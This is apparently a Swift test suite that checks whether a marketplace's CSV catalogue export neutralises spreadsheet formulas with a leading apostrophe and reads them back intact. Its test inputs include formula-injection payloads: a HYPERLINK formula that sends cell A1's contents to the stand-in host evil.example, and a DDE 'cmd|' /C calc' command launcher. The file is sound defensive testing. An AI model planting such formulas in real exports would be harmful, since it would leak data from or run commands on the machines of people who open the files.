import TestSupport
import Testing
import Vocabulary

@testable import Kernel

@Suite struct `Cells that a spreadsheet would work out` {
    @Test(arguments: [
        "=HYPERLINK(\"http://evil.example/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
        "\tx", "＝1", "'=1", "''=1", "- a bowl",
    ])
    func `are shown as text, and read back as they were typed`(_ text: String) throws {
        let line = CSV.line([text, "next"])

        #expect(line.hasPrefix("'") || line.hasPrefix("\"'"))
        #expect(try CSV.records(Array(line.utf8)).first?.fields == [text, "next"])
    }

    @Test(arguments: [
        "", "Bowl", "-12.50", "+7", "-3", "'Tis blue", "12=12", "<p>=1</p>", "'0123456789012",
    ])
    func `are no others`(_ text: String) throws {
        #expect(CSV.line([text]) == text + "\r\n")
        let line = CSV.line([text, "next"])
        #expect(try CSV.records(Array(line.utf8)).first?.fields == [text, "next"])
    }

    @Test func `leave a shop with an apostrophe before them, and come back without`() async throws {
        try await TestMarketplace.run { market in
            let kernel = market.marketplace
            let seller = try await market.given.verifiedSeller()
            let formula = "=HYPERLINK(\"http://evil.example/\"&A1)"
            _ = try await kernel.createListing(
                ListingDraft(
                    title: formula, productType: "@type", tags: ["-tag", "=tag"],
                    variants: [VariantDraft(price: Money(1900, .eur), sku: "+sku", onHand: 1)]),
                as: seller.member)

            let file = try await kernel.exportCatalogue(as: seller.member)
            let text = String(decoding: file, as: UTF8.self)
            let report = try await kernel.importCatalogue(
                file, ImportOptions(), as: seller.member)

            #expect(text.contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\","))
            for cell in ["'@type", "\"'-tag, =tag\"", "'+sku"] {
                #expect(text.contains(",\(cell),"), "\(cell)")
            }
            #expect(report.unchanged == 1)
            #expect(report.notes.isEmpty, "\(report.notes)")
        }
    }
}
